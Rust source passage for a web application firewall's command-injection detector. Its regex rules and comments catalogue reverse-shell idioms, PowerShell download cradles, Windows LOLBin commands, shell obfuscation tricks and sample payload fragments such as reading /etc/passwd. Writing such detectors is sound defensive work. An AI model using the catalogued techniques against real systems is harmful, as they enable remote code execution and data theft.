//! OS command injection (rules 1300–1399).
//!
//! Looks at the shell view of a value (quotes and escapes removed, lowercased) for a shell
//! metacharacter or command substitution followed by a command word with an argument shape
//! (a flag, a path, an address, or nothing more), for a value that is itself a command line, for
//! absolute paths to system binaries, for reverse-shell, PowerShell and `cmd.exe` idioms, and for
//! the expansion tricks used to hide command words (`${IFS}`, substring expansions, globs).

use std::sync::LazyLock;

use regex::Regex;

use super::shared::{Bank, Literals, push_once};

use crate::model::{Class, Finding, Rule, Severity, Target};
use crate::transform::{View, Views, shell_unquote};

const fn rule(id: u32, severity: Severity, paranoia: u8, description: &'static str) -> Rule {
    Rule {
        id,
        class: Class::CommandInjection,
        severity,
        paranoia,
        description,
    }
}

pub static RULES: &[Rule] = &[
    rule(
        1300,
        Severity::Critical,
        1,
        "shell metacharacter or command substitution followed by a command",
    ),
    rule(
        1301,
        Severity::Critical,
        1,
        "value is a command line (command with a flag, path or address argument)",
    ),
    rule(
        1302,
        Severity::Critical,
        1,
        "path to a system binary in a shell context",
    ),
    rule(1303, Severity::Critical, 1, "reverse shell idiom"),
    rule(1304, Severity::Critical, 1, "PowerShell execution idiom"),
    rule(
        1305,
        Severity::Critical,
        1,
        "Windows command interpreter idiom",
    ),
    rule(
        1306,
        Severity::Critical,
        1,
        "shell expansion trick hiding a command (IFS, substring, ANSI-C quoting, glob paths)",
    ),
    rule(
        1307,
        Severity::Critical,
        1,
        "call of a command-execution function",
    ),
    rule(
        1308,
        Severity::Critical,
        1,
        "server-side include exec directive",
    ),
    rule(
        1309,
        Severity::Critical,
        1,
        "Shellshock function definition",
    ),
    rule(
        1310,
        Severity::Error,
        1,
        "Windows environment variable expansion",
    ),
    rule(1311, Severity::Error, 1, "server-side include directive"),
    rule(
        1312,
        Severity::Warning,
        2,
        "caret-obfuscated Windows command word",
    ),
    rule(
        1313,
        Severity::Critical,
        1,
        "shell variable assigned, then executed as a command",
    ),
    rule(
        1314,
        Severity::Warning,
        2,
        "command separator followed by a command word",
    ),
    rule(
        1315,
        Severity::Error,
        2,
        "shell variable executed as a command",
    ),
    rule(
        1316,
        Severity::Critical,
        2,
        "backticked command with an argument after a space (inline code in prose)",
    ),
    rule(
        1317,
        Severity::Critical,
        2,
        "line break followed by a command, within text of several lines or after a line of words",
    ),
];

/// Command words: Unix utilities, interpreters, network tools and Windows commands.
const CMDS: &str = "whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ncat|netcat|socat|telnet|\
bash|zsh|ksh|csh|tcsh|dash|busybox|python[23]?(?:\\.[0-9]+)?|perl[0-9]?|ruby|php[0-9]?|node|nodejs|lua|\
powershell|pwsh|certutil|bitsadmin|systeminfo|tasklist|taskkill|regsvr32|rundll32|mshta|wmic|cscript|\
wscript|schtasks|crontab|nohup|mkfifo|mknod|base64|xxd|useradd|usermod|userdel|chmod|chown|chgrp|\
printenv|hostname|getent|traceroute|tracert|nmap|tftp|sudo|passwd|net1?|netsh|icacls|cacls|reg|\
cat|tac|nl|head|tail|more|less|ls|dir|id|pwd|env|ps|kill|killall|pkill|sleep|timeout|ping|echo|printf|rm|\
cp|mv|touch|mkdir|rmdir|find|grep|egrep|awk|gawk|sed|cut|tee|dd|tar|zip|unzip|gzip|gunzip|who|w|last|\
uptime|type|copy|del|erase|move|ren|ver|vol|start|set|nc|sh|host|dig|ftp|ssh|scp|rsync|wc|od|strings|eval|\
exec|source|export|call|lsof|ifup|route|arp|mount|umount|df|du|crontab|at|nproc|lscpu|lsb_release|\
findstr|attrib|xcopy|robocopy|cipher|vssadmin|bcdedit|wevtutil|sc|shutdown|reboot|halt|init|systemctl|\
service|chkconfig|iptables|apt|apt-get|yum|dnf|pip|pip3|npm|gcc|make|java|javac|jrunscript|osascript|\
openssl|xterm|screen|tmux|script|expect|whois|finger|fetch|lynx|links|tclsh|wish|jexec|ldd|strace|\
gdb|sqlite3|mysql|psql|mongo|redis-cli|dos2unix|base32|md5sum|sha1sum|sha256sum|file|stat|readlink|\
realpath|basename|dirname|uniq|sort|tr|rev|fold|paste|xargs|true|false|test|whereis|which|locate|\
history|alias|unset|ulimit|umask|id|groups|users|lastlog|dmesg|sysctl|modprobe|insmod|lsmod";

/// Command words that are rarely English words: enough on their own after a separator.
const STRONG: &str = "whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|ncat|netcat|socat|busybox|\
certutil|bitsadmin|systeminfo|tasklist|taskkill|regsvr32|rundll32|mshta|wmic|cscript|wscript|schtasks|\
crontab|nohup|mkfifo|xxd|useradd|usermod|chmod|chown|printenv|getent|traceroute|tracert|netsh|icacls|\
cacls|vssadmin|bcdedit|wevtutil|lsb_release|jrunscript|osascript|findstr";

/// Command words that do something useful with no argument at all (`;id`, `|whoami`).
const NOARG: &str = "id|whoami|uname|ls|dir|pwd|env|ps|who|ifconfig|ipconfig|netstat|hostname|\
systeminfo|tasklist|set|ver|uptime|printenv|history|groups|users|lastlog|dmesg|sh|bash|zsh|ksh|csh|\
cmd|powershell|pwsh|lsb_release|nproc|lscpu|getuid|net1?|arp|route|mount|df|reboot|shutdown|halt";

/// Command words whose typical attack argument is a bare number or address (`sleep 5`).
const NUMARG: &str = "sleep|ping|timeout|kill|usleep";

/// A backtick that substitutes a command (`` `id` ``, `` `cat /x` ``).
fn substitution() -> String {
    format!(r"`[\s+]*(?:{CMDS})(?:\.exe)?(?:[\s+`]|$)")
}

/// An argument that makes a command word a command: a flag, a path, a variable, a quote, a
/// redirection, a drive, a number or address, a dotted name, a URL; or a redirection glued
/// to the command (`cat</etc/passwd`, `id>o`, `id 2>&1`); a backtick after a space only when
/// it substitutes a command (`; echo `id``): prose puts code spans there (`…; make `const
/// fn` work`). Lowercase: under `(?i)` where case is kept.
fn argument() -> String {
    r"(?:[\s+]+(?:-{1,2}[a-z0-9]|[/\\~$'<>]|{subst}|[a-z]:(?:[\\/]|$|[\s+|;&])|(?:[0-9]{1,3}\.){3}[0-9]{1,3}|[a-z][a-z0-9_-]*\.(?:[a-z]{2,4}|[0-9]+)\b|https?:|ftp:|[0-9][<>])|[<>])"
        .replace("{subst}", &substitution())
}

/// Patterns over the shell view (lowercase, quotes and escapes removed). `WS` also accepts `+`,
/// a space as a form-encoded value carries it.
static SHELL: LazyLock<Bank> = LazyLock::new(|| {
    let ws = r"[\s+]";
    let subst = substitution();
    let arg = argument();
    let sep = r"(?:[;|&\n\r]|\$\()";
    // What may end a command that needs no argument: the end of the value, a metacharacter, a
    // quote, a redirection (`id>o`, `sh</tmp/x`, `id 2>&1`) or a comment (`id #`, not `id #12`);
    // a backtick glued to it (`;id``) or one after a space that substitutes a command (`;id
    // `uname``), not a code span (`…; set `NODE_ENV` first`).
    let end = r"(?:$|[;|&)\n\r'\x22\\<>]|{ws}#(?:$|[^0-9a-z])|{ws}[0-9][<>])".replace("{ws}", ws);
    let p1300 = format!(
        r"{sep}{ws}*(?:(?:{NOARG})(?:\.exe)?(?:`|{ws}*{end}|{ws}+{subst})|(?:{CMDS})(?:\.exe)?{arg}|(?:{NUMARG})(?:\.exe)?{ws}+[0-9]|ps{ws}+(?:aux|axu|ax|au|-?ef)w*\b)"
    );
    let p1300b = format!(r"{sep}{ws}*(?:{STRONG})(?:\.exe)?\b");
    // Command substitution with backticks at the start of the value or glued to what precedes
    // it is `backtick_substitution`'s (it pairs the backticks). After a space, inline code in
    // prose (`run `ls -la` first`) reads the same: paranoia 2 (1316), and only a command with
    // an argument shape.
    let p1316 = format!(r"`{ws}*(?:{CMDS})(?:\.exe)?{arg}[^`]*`");
    // A value that starts with a command and chains another one: a separator, `$(`, or a
    // backtick glued to the command (`id`whoami``; after a space, `Set `x` to …` is prose, as
    // `foo `id`` is).
    let p1300e = format!(r"^[\s+'\x22(]*(?:{NOARG})(?:\.exe)?(?:{ws}*(?:[;|&]|\$\()|`)");
    // The whole value a command line: a command, then argument-shaped tokens (flags, paths,
    // drives, numbers, addresses, URLs, file names, quoted strings) with at most one bare word
    // among them, up to the end or a metacharacter. Prose that starts with a command word
    // ("rm -rf is dangerous") has more bare words.
    let shaped = r"(?:-{1,2}[a-z0-9][\w=.,:-]*|[/\\~$.][^\s+;|&]*|[a-z]:(?:[\\/][^\s+;|&]*)?|[0-9][\w.:-]*|'[^']*'|\x22[^\x22]*\x22|[a-z]+://[^\s+;|&]+|[\w-]+\.[a-z0-9]{1,5}|[<>]{1,2}[^\s+;|&]*|`[^`]*`|\$\([^)]*\))";
    let bare = r"[a-z][\w@.-]{0,30}";
    let first = r"(?:-{1,2}[a-z][\w=.,:-]*|[/\\~$][^\s+;|&]*|[a-z]:[\\/][^\s+;|&]*|(?:[0-9]{1,3}\.){3}[0-9]{1,3}[^\s+;|&]*|[a-z]+://[^\s+;|&]+|[<>]{1,2}[^\s+;|&]*|`[^`]*`|\$\([^)]*\))";
    let p1301 = format!(
        r"^[\s+'\x22(]*(?:{CMDS})(?:\.exe)?{ws}+{first}(?:{ws}+{shaped})*(?:{ws}+{bare})?(?:{ws}+{shaped})*{ws}*(?:$|[;|&`])"
    );
    let p1301b = format!(
        r"^[\s+'\x22(]*(?:dir|cd|type|copy|del|move|ren|attrib|xcopy|robocopy|cacls|icacls|tree)(?:\.exe)?{ws}+[a-z]:{ws}*(?:$|[;|&`])"
    );
    let p1302 = format!(
        r"(?:^|[\s+;|&`'\x22(=$<>:])(?:/usr(?:/local)?/s?bin/|/s?bin/|usr/s?bin/)(?:{CMDS}|[a-z?*]*[?*][a-z?*]*)(?:$|[^a-z0-9_.-])"
    );
    let p1303 = [
        r"/dev/(?:tcp|udp)/",
        r"\b(?:ba|z|k|da)?sh[\s+]+-i\b",
        r"\bnc(?:at)?(?:\.exe)?[\s+](?:[^|;&\n]*[\s+])?-[a-z]*[ec][\s+]",
        r"\bmkfifo[\s+]+/",
        r"\bsocat[\s+]+[^\n]*(?:exec|system|tcp|pty)[:-]",
        r"-e[\s+]*/bin/(?:ba|z|k|da)?sh\b",
        r"[0-9]?>&[\s+]*/dev/",
        r"[<>]&[\s+]*[0-9]+[\s+]*[<>]",
        r"\bpty\.spawn\b",
        r"\bsocket\.socket\b",
        r"\btcpsocket\.(?:new|open)\b",
        r"\bfsockopen\s*\(",
        r"\bnew-object[\s+]+(?:system\.)?net\.sockets\.tcpclient",
    ];
    let p1304 = [
        r"(?:^|[;|&(\s+])(?:invoke-expression|invoke-webrequest|iwr|invoke-restmethod|irm|invoke-command|icm|invoke-wmimethod|invoke-item|invoke-shellcode|invoke-mimikatz)[\s+]*[(\x22'$-]",
        r"\.(?:downloadstring|downloadfile|downloaddata|uploadstring|uploadfile)[\s+]*\(",
        r"::frombase64string[\s+]*\(",
        r"\b(?:start-bitstransfer|set-mppreference|add-mppreference)\b",
        r"\bstart-process[\s+]+(?:-[a-z]|[a-z]:|\S+\.exe\b|powershell|pwsh|cmd\b)",
        r"\bnew-object[\s+]+(?:-typename[\s+]+)?(?:system\.)?net\.webclient\b",
        r"(?:^|[;|&(\s+])iex[\s+]*[(\x22'$]",
        r"\|[\s+]*iex\b",
        r"\b(?:powershell|pwsh)(?:\.exe)?[\s+]+[-/](?:c|command|e|ec|enc|encodedcommand|nop|noprofile|noni|noninteractive|w|windowstyle|ep|exec|executionpolicy|file|f|sta|noexit)\b",
        r"-(?:executionpolicy|ep|exec)[\s+]+bypass\b",
        r"-(?:enc|encodedcommand|ec)[\s+]+[a-z0-9+/=]{16,}",
        r"\[system\.(?:convert|text\.encoding|reflection\.assembly)\]::",
    ];
    let p1305 = [
        r"\bcmd(?:\.exe[\s+]*|[\s+]+)/[ckr]\b",
        r"%comspec%",
        r"\bcertutil(?:\.exe)?[\s+]+-(?:urlcache|decode|encode|decodehex|f|split)\b",
        r"\bbitsadmin(?:\.exe)?[\s+]+/(?:transfer|create|addfile|resume|setnotifycmdline)\b",
        r"(?:^|[;|&\n])[\s+]*net1?(?:\.exe)?[\s+]+(?:user|localgroup|group|accounts|share|view|session)(?:[\s+]*(?:$|[;|&])|\b[^\n;|&]*[\s+]/(?:add|del|delete|domain|active|y|persistent)\b)",
        r"\brundll32(?:\.exe)?[\s+]+[^\s,]+,",
        r"\bregsvr32(?:\.exe)?[\s+]+/",
        r"\bmshta(?:\.exe)?[\s+]+(?:https?:|vbscript:|javascript:|\\\\)",
        r"\bwmic(?:\.exe)?[\s+]+(?:process|os|useraccount|/node|shadowcopy|service|product|qfe|computersystem|nicconfig)\b",
        r"\bschtasks(?:\.exe)?[\s+]+/(?:create|run|change)\b",
        r"\breg(?:\.exe)?[\s+]+(?:add|query|delete|save|export|import)[\s+]+hk",
        r"\bvssadmin(?:\.exe)?[\s+]+(?:delete|list|create|resize)\b",
        r"\bwhoami(?:\.exe)?[\s+]+/(?:all|priv|groups|user|fqdn)\b",
        r"\bforfiles(?:\.exe)?[\s+]+/[pmc]\b",
        r"\b(?:cscript|wscript)(?:\.exe)?[\s+]+(?://[a-z]+[\s+]+)*[^\s]+\.(?:vbs|js|jse|wsf|vbe)\b",
    ];
    let p1306 = [
        r"/\?{2,}/",
        r"(?:^|[\s+;|&`])/[a-z]*\?[a-z?]*/[a-z?]*\?",
        r"\$\{[a-z_][a-z0-9_]*:(?:[0-9]+| -[0-9]+)(?::-?[0-9]+)?\}",
        r"%[a-z_]+:~-?[0-9]+(?:,-?[0-9]+)?%",
        r"\$'(?:[^']*\\(?:x[0-9a-f]{2}|[0-7]{3}|u[0-9a-f]{4}))",
        r"\$\((?:printf|echo)[\s+][^)]*\\(?:x[0-9a-f]{2}|[0-7]{3})",
        r"\b(?:base64|xxd)[\s+]+(?:-d|--decode|-r)\b[^|]*\|[\s+]*(?:ba|z|k|da)?sh\b",
        r"\|[\s+]*(?:ba|z|k|da)?sh(?:$|[\s+;&|])",
        r"\|[\s+]*(?:/usr)?/bin/(?:ba|z|k|da)?sh\b",
    ];
    let called = CMDS.replace("|move|", "|");
    // A call of a command-execution function on a path or a command word. `move` is Windows'
    // command and Rust's closure keyword: `thread::spawn(move || …)` runs no command.
    let p1307 = [
        r"\b(?:system|passthru|shell_exec|proc_open|popen|pcntl_exec|exec|execv|execve|execvp|spawn|spawnsync|execsync|execfile)\([\x22'`$]?[\s+]*(?:/|[a-z]:\\|(?:CALLED)(?:$|[\s+;|&\x22'`)])|move(?:$|[;&\x22'`)]|[\s+]+[^\s+|]))",
        r"\bos\.(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?|posix_spawn)[\s+]*\(",
        r"\bsubprocess\.(?:call|run|popen|check_output|check_call|getoutput|getstatusoutput)[\s+]*\(",
        r"\bruntime\.getruntime\(\)\.exec\b",
        r"\bprocessbuilder[\s+]*\(",
        r"\brequire[\s+]*\([\s+]*[\x22'`](?:node:)?child_process",
        // Node's `child_process` loaded (`require('child_process')`, `import(…)`, `_load(…)`)
        // and used, not named in prose (`the child_process.exec() method`).
        r"\([\s+]*[\x22'`]?(?:node:)?child_process[\x22'`]?[\s+]*\)(?:[\s+]*[.\[]|[^\n]*\.(?:exec|spawn|execsync|spawnsync|execfile|execfilesync|fork)\b)",
        // Node internals that reach the process spawner, called: the spawner's binding
        // (`process.binding('spawn_sync')`) or a computed name (`'spawn'+'_sync'`), not
        // another binding named in a changelog (`process.binding('crypto')`) nor the bare name.
        r"\bprocess\.binding\s*\(\s*[\x22'`]?\s*(?:spawn_sync|process_wrap|[^a-z0-9_\s)\x22'`]|[a-z0-9_]+\s*[^a-z0-9_\s)\x22'`])",
        r"\bprocess\.mainmodule[\s+]*(?:\.[\s+]*(?:require|constructor|_load)\b|\[)",
        r"\bphpinfo[\s+]*\([\s+]*\)",
    ]
    .map(|p| p.replace("CALLED", &called));
    let p1308 = r"<!--[\s+]*#[\s+]*exec\b";
    let p1309 = r"^[\s+'\x22]*\([\s+]*\)[\s+]*\{";
    let p1311 =
        r"<!--[\s+]*#[\s+]*(?:include|echo|config|fsize|flastmod|printenv|set)[\s+]+[a-z]+[\s+]*=";
    let p1312 = r"\b[a-z]\^[a-z]\^?[a-z]*\^[a-z]";
    let p1313 = r"(?:^|[;|&\n\s+])[a-z_][a-z0-9_]*=[^;|&\s]*[;|&][\s+]*\$\{?[a-z_][a-z0-9_]*\}?[\s+]*(?:$|[;|&])";
    let p1315 = r"(?:^|[;|&\n])[\s+]*\$\{?[a-z_][a-z0-9_]*\}?[\s+]*(?:$|[;|&])";
    let p1314 = format!(r"(?:[;|&\n\r`]|\$\(){ws}*(?:{CMDS})(?:\.exe)?\b");

    let mut pats: Vec<(usize, String)> = vec![
        (0, p1300),
        (0, p1300b),
        (16, p1316),
        (0, p1300e),
        (1, p1301),
        (1, p1301b),
        (2, p1302),
        (8, p1308.to_string()),
        (9, p1309.to_string()),
        (11, p1311.to_string()),
        (12, p1312.to_string()),
        (14, p1314),
    ];
    pats.extend(p1303.iter().map(|p| (3, p.to_string())));
    pats.extend(p1304.iter().map(|p| (4, p.to_string())));
    pats.extend(p1305.iter().map(|p| (5, p.to_string())));
    pats.extend(p1306.iter().map(|p| (6, p.to_string())));
    pats.extend(p1307.into_iter().map(|p| (7, p)));
    pats.push((13, p1313.to_string()));
    pats.push((15, p1315.to_string()));
    let refs: Vec<(usize, &str)> = pats.iter().map(|(r, p)| (*r, p.as_str())).collect();
    Bank::new("cmdi", &refs)
});

/// Patterns over the decoded view (case kept, so `(?i)`): what the shell view erases.
static DECODED: LazyLock<Bank> = LazyLock::new(|| {
    // A command at the start of a line: a command that needs no argument (then the end of the
    // value or of the line, a metacharacter, a redirection or a comment), a command with a flag,
    // path, drive or variable, or a rare command word.
    let command = format!(
        r"(?:(?:{NOARG})(?:\.exe)?[ \t+]*(?:$|[;|&#<>])|(?:{CMDS})(?:\.exe)?[\s+]+(?:-{{1,2}}[a-z]|/|[a-z]:[\\/]|\$)|(?:{STRONG})(?:\.exe)?\b)"
    );
    // Paranoia 1: the value is `word<line break>command` — one word (or nothing, but no
    // backticks: a Markdown fence) before the first line break, and nothing after the command's
    // line but blank lines or a `#` comment (`x\nid`, `127.0.0.1\ncat /etc/passwd\n`).
    let nl = format!(
        r"(?i)^[^\s`]*[\r\n]+[ \t+]*(?:{command}[^\r\n]*|(?:{NOARG})(?:\.exe)?[ \t+]*)(?:[\r\n][\s+]*(?:#[^\r\n]*)?)*$"
    );
    // Paranoia 2 (1317): the same command line anywhere in text of several lines, or after a
    // line of words (steps to reproduce, a support ticket, a Markdown code block).
    let nl_text = format!(r"(?i)[\n\r][\s+]*{command}");
    // A value that opens with a line break and a command on its own line.
    let nl_first = format!(r"(?i)^[\r\n]+[ \t+]*(?:{NOARG})(?:\.exe)?[ \t+]*(?:[\r\n]|$)");
    // A variable assigned, then run as a command with an argument (`x=cat;$x /etc/hosts`,
    // `a=c;b=at;$a$b /etc/passwd`, the assignment on a line of its own): the shell view drops
    // an expansion that opens a command with more words (it reads it as unset), this one is
    // set right before.
    let var = r"\$\{?[a-z_][a-z0-9_]*\}?";
    let assigned_run = format!(
        r"(?i)(?:^|[;|&\n\s+])[a-z_][a-z0-9_]*=[^;|&\s]*[;|&\r\n][\s+]*{var}(?:{var})*{arg}",
        arg = argument()
    );
    let pats: Vec<(usize, String)> = vec![
        (0, nl),
        (13, assigned_run),
        (17, nl_text),
        (0, nl_first),
        (6, r"(?i)\$\{?ifs\b".to_string()),
        (6, r"(?i)[a-z]\$@[a-z]".to_string()),
        (
            10,
            r"(?i)%(?:systemroot|windir|username|userprofile|userdomain|computername|appdata|localappdata|programfiles|programdata|homepath|homedrive|logonserver|os|path|temp|tmp|public|allusersprofile|processor_architecture|systemdrive)%"
                .to_string(),
        ),
    ];
    let refs: Vec<(usize, &str)> = pats.iter().map(|(r, p)| (*r, p.as_str())).collect();
    Bank::new("cmdi", &refs)
});

/// A backticked command, from its opening backtick to its closing one (rule 1300's backtick
/// form; where it must stand is [`backtick_substitution`]'s).
static BACKTICKED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let ws = r"[\s+]";
    let p = format!(r"^`{ws}*(?:{CMDS}|true|false)(?:\.exe)?(?:{ws}[^`]*)?`");
    match Regex::new(&p) {
        Ok(re) => Some(re),
        Err(e) => {
            tracing::error!(detector = "cmdi", error = %e, "WAF pattern does not compile; it will never match");
            None
        }
    }
});

/// Rule 1300's backtick form in the shell view: a backticked command that opens the value
/// (after blanks, quotes, `(` or `=`) or is glued to what precedes it (``x`id` ``,
/// ``a;`id` ``, ``=`id` ``). Its fragment, if any.
///
/// The value's backticks are paired from its start, as a shell pairs them (one escaped with a
/// backslash does not count): only an opening one starts a substitution. In prose the closing
/// backtick of a code span is glued to the word it closes, and what follows it up to the next
/// code span (`` ` at the specified ` `` in ``Writes `buf` at the specified `offset` ``) is
/// no substitution in any shell. A backticked command that opens the value and is followed by
/// more words, or by sentence punctuation that ends the value (``` `Host` header ```,
/// ``` `true`. ```), is inline code opening a sentence and reads as ``foo `id` `` does (a
/// backticked command after a space: 1316, paranoia 2); alone, or glued to more text
/// (``` `whoami`.evil.example ```), it stays.
///
/// Linear: each opening backtick is matched at most up to the next backtick.
fn backtick_substitution(shell: &str) -> Option<&str> {
    let re = BACKTICKED.as_ref()?;
    let b = shell.as_bytes();
    let leading = |c: u8| c.is_ascii_whitespace() || matches!(c, b'+' | b'\'' | b'"' | b'(' | b'=');
    let lead = b.iter().take_while(|&&c| leading(c)).count();
    let mut open = false;
    // The run of backslashes just before `i`, kept as the scan goes (counting it back from
    // each byte was quadratic in a long run).
    let mut slashes = 0usize;
    for (i, &c) in b.iter().enumerate() {
        let before = slashes;
        slashes = if c == b'\\' { slashes + 1 } else { 0 };
        // Escaped by an odd run of backslashes; an even run is that many halves of literal
        // backslashes, and the backtick after them opens (glued to them).
        if c != b'`' || before % 2 == 1 {
            continue;
        }
        open = !open;
        if !open {
            continue;
        }
        let glued = i > 0
            && b.get(i - 1).is_some_and(|&p| {
                p.is_ascii_lowercase()
                    || p.is_ascii_digit()
                    || matches!(
                        p,
                        b'_' | b'=' | b';' | b'|' | b'&' | b'\'' | b'"' | b')' | b'\\'
                    )
            });
        if !glued && i != lead {
            continue;
        }
        let Some(m) = shell.get(i..).and_then(|rest| re.find(rest)) else {
            continue;
        };
        let after = shell.get(i + m.end()..).unwrap_or_default();
        if !glued && prose_follows(after) {
            continue;
        }
        return Some(m.as_str());
    }
    None
}

/// `raw` with its quotes removed as a shell removes them and the backticks inside single
/// quotes (literal to a shell) blanked; backslashes are kept as sent. Linear.
fn quoted_backticks_blanked(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let (mut single, mut double) = (false, false);
    let mut escaped = false;
    for c in raw.chars() {
        if single {
            match c {
                '\'' => single = false,
                '`' => out.push(' '),
                c => out.push(c),
            }
            continue;
        }
        match c {
            '\'' if !double && !escaped => single = true,
            '"' if !escaped => double = !double,
            c => out.push(c),
        }
        escaped = c == '\\' && !escaped;
    }
    out
}

/// Whether what follows a backticked command that opens a value reads as a sentence going on:
/// a space and a word, or one sentence mark (`.`, `,`, `:`, `!`, `?`) ending the value or
/// followed by a space and a word. Never a line break, a `;` or another separator: to a shell
/// those end the command (`` `id`; ``, `` `id`⏎foo ``).
fn prose_follows(after: &str) -> bool {
    let rest = after
        .strip_prefix(['.', ',', ':', '!', '?'])
        .map_or((after, false), |r| (r, true));
    let (rest, punctuated) = rest;
    match rest.strip_prefix(' ') {
        Some(words) => words
            .bytes()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic()),
        None => rest.is_empty() && punctuated,
    }
}

/// Words and fragments the rules that need neither a metacharacter nor a leading command word
/// look for (interpreters and Windows tools used mid-value, code-execution calls).
static LITS: LazyLock<Literals> = LazyLock::new(|| {
    Literals::new(
        "cmdi",
        &[
            "bin/",
            "/dev/",
            "powershell",
            "pwsh",
            "cmd",
            "comspec",
            "certutil",
            "bitsadmin",
            "rundll32",
            "regsvr32",
            "mshta",
            "wmic",
            "schtasks",
            "vssadmin",
            "forfiles",
            "cscript",
            "wscript",
            "whoami",
            "invoke-",
            "download",
            "upload",
            "frombase64",
            "bitstransfer",
            "mppreference",
            "start-process",
            "net.webclient",
            "iex",
            "bypass",
            "-enc",
            "-ec",
            "::",
            "net user",
            "net1 user",
            "net localgroup",
            "net group",
            "reg ",
            "reg.exe",
            "mkfifo",
            "socat",
            "pty.spawn",
            "socket",
            "fsockopen",
            "tcpclient",
            "nc ",
            "ncat",
            "sh -i",
            "system",
            "passthru",
            "shell_exec",
            "proc_open",
            "popen",
            "pcntl",
            "exec",
            "spawn",
            "os.",
            "subprocess",
            "getruntime",
            "processbuilder",
            "child_process",
            "process.",
            "phpinfo",
            "()",
            "( )",
            "<!--",
            "base64",
            "xxd",
        ],
    )
});

/// A word of at most 16 bytes as an integer (big-endian, zero-padded): the leading-word check
/// compares integers, not strings.
fn word_key(w: &[u8]) -> Option<u128> {
    if w.is_empty() || w.len() > 16 {
        return None;
    }
    let mut b = [0u8; 16];
    for (d, s) in b.iter_mut().zip(w) {
        *d = s.to_ascii_lowercase();
    }
    Some(u128::from_be_bytes(b))
}

/// Every command word, for the leading-word check (as [`word_key`]s, sorted).
static WORDS: LazyLock<Vec<u128>> = LazyLock::new(|| {
    let mut w: Vec<u128> = CMDS
        .split('|')
        .filter(|w| {
            w.bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_' || b == b'-')
        })
        .chain(["python", "perl", "php", "net"])
        .filter_map(|w| word_key(w.as_bytes()))
        .collect();
    w.sort_unstable();
    w.dedup();
    w
});

/// Whether the value starts (after spaces, quotes, a parenthesis) with a command word followed
/// by a space, `+`, `.` (`ping.exe`) or a metacharacter.
fn starts_with_command_word(s: &str) -> bool {
    let t = s
        .trim_start_matches([' ', '+', '\'', '"', '(', '\t'])
        .as_bytes();
    let n = t
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'))
        .count();
    if n == 0
        || !matches!(
            t.get(n),
            Some(b' ' | b'+' | b'.' | b'\t' | b';' | b'|' | b'&')
        )
    {
        return false;
    }
    let word = &t[..n];
    let is_word = |w: &[u8]| word_key(w).is_some_and(|k| WORDS.binary_search(&k).is_ok());
    if is_word(word) {
        return true;
    }
    // `python3`, `perl5`, `net1`: the word without its version digits.
    let base_len = word.len() - word.iter().rev().take_while(|b| b.is_ascii_digit()).count();
    base_len < word.len() && is_word(&word[..base_len])
}

/// Whether any rule here could match `s` (raw, or shell view when quoting may hide a word).
fn has_trigger(s: &str) -> bool {
    s.bytes().any(|b| {
        matches!(
            b,
            b';' | b'|' | b'&' | b'`' | b'$' | b'\n' | b'\r' | b'^' | b'<' | b'%'
        )
    }) || (s.contains('/') && s.contains(['?', '*']))
        || starts_with_command_word(s)
        || LITS.any(s)
}

pub fn inspect(t: &Target<'_>, views: &mut Views, paranoia: u8, out: &mut Vec<Finding>) {
    let raw = views.get(View::Raw);
    if !has_trigger(raw) {
        // Quotes, escapes and braces may hide a command word (`c'a't`, `{cat,/etc/passwd}`).
        if !raw.contains(['\'', '"', '\\', '{']) || !has_trigger(views.get(View::Shell)) {
            return;
        }
    }
    let mut seen = 0u64;
    {
        let shell = views.get(View::Shell);
        SHELL.scan(shell, |r, m| {
            push_once(RULES, r, &mut seen, paranoia, t, View::Shell, m, out)
        });
        if shell.contains('`')
            && let Some(m) = backtick_substitution(shell)
        {
            push_once(RULES, 0, &mut seen, paranoia, t, View::Shell, m, out);
        }
    }
    // The shell view has lost the quoting that makes a backtick literal (`a'`'b`id``: the
    // first is quoted, the next two substitute), reads `\\` as one backslash and a line break
    // as a space (`` `id`⏎foo `` is two commands): the pairing is made again on the value as
    // sent, its single-quoted backticks blanked.
    let raw = views.get(View::Raw);
    if raw.contains('`') && raw.contains(['\'', '\\', '\n', '\r']) {
        let masked = quoted_backticks_blanked(raw);
        if let Some(m) = backtick_substitution(&masked) {
            push_once(RULES, 0, &mut seen, paranoia, t, View::Raw, m, out);
        }
    }
    let decoded = views.get(View::Decoded);
    if decoded
        .bytes()
        .any(|b| matches!(b, b'\n' | b'\r' | b'$' | b'%'))
    {
        DECODED.scan(decoded, |r, m| {
            push_once(RULES, r, &mut seen, paranoia, t, View::Decoded, m, out)
        });
    }
    // The shell view reads a line break as a space, so the line rules look at the decoded
    // value; read again with its quoting and unset expansions removed as the shell view does
    // (case and line breaks kept), a command split or hidden that way after a line break
    // (`x⏎wh${u}oami`, `x⏎${u} id`, `x⏎w'h'oami`) reads as written out.
    if decoded.contains(['\n', '\r']) && decoded.contains(['$', '\'', '"', '\\', '`']) {
        let mut unquoted = String::with_capacity(decoded.len());
        shell_unquote(decoded, &mut unquoted);
        if unquoted != decoded {
            DECODED.scan(&unquoted, |r, m| {
                push_once(RULES, r, &mut seen, paranoia, t, View::Shell, m, out)
            });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(v: &str, pl: u8) -> Vec<u32> {
        crate::detect::testing::ids(inspect, v, pl)
    }

    fn blocked(v: &str) -> bool {
        crate::detect::testing::score(inspect, v) >= 5
    }

    /// Percent-encodes everything but unreserved characters.
    fn pct(v: &str) -> String {
        v.bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect()
    }

    /// The whole engine at its defaults, `v` as a query parameter or as a JSON string field.
    fn engine(v: &str, json: bool) -> crate::engine::Outcome {
        use crate::engine::{BodyState, Inspection, inspect};
        let uri = if json {
            "/orders".to_string()
        } else {
            format!("/orders?q={}", pct(v))
        };
        let body = if json {
            serde_json::json!({ "q": v }).to_string()
        } else {
            String::new()
        };
        let (head, ()) = http::Request::builder()
            .method(if json { "POST" } else { "GET" })
            .uri(uri)
